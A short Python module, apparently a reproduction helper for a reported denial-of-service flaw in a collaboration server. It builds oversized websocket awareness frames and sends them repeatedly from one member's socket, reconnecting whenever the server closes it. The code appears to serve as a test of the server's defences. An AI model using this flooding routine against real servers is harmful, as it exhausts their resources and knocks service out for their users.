"""Raw awareness frames for flooding a collab server (the "awareness without limits" report).

`flood_frame(n)` is the reported attack's shape: one awareness frame of `n`
entries (distinct client ids, `{}` states; 1,000,000 entries make 6.7 MiB).
`flood` sends such frames from one member's socket, reconnecting whenever
the server closes it, until told to stop.
"""

from __future__ import annotations

import asyncio

import aiohttp

from shared.awareness import AwarenessEntry, encode_awareness_update
from shared.protocol import encode_awareness


def flood_frame(entries: int, *, first_id: int = 1, state: bytes = b"{}") -> bytes:
    """One awareness frame announcing `entries` client ids, each with `state`."""
    return encode_awareness(
        encode_awareness_update(AwarenessEntry(first_id + i, 1, state) for i in range(entries))
    )


async def flood(url: str, frame: bytes, stop: asyncio.Event, *, per_socket: int = 3) -> dict[str, int]:
    """Send `frame` `per_socket` times per connection until `stop`; count frames and closes by code."""
    counts: dict[str, int] = {"frames": 0, "connections": 0}
    async with aiohttp.ClientSession() as session:
        while not stop.is_set():
            try:
                async with session.ws_connect(url, max_msg_size=0) as ws:
                    counts["connections"] += 1
                    for _ in range(per_socket):
                        await ws.send_bytes(frame)
                        counts["frames"] += 1
                    async for _message in ws:  # read until the server closes (or `stop`)
                        if stop.is_set():
                            break
                    code = f"close_{ws.close_code}"
                    counts[code] = counts.get(code, 0) + 1
            except (aiohttp.ClientError, ConnectionError):
                counts["errors"] = counts.get("errors", 0) + 1
                await asyncio.sleep(0.05)
    return counts
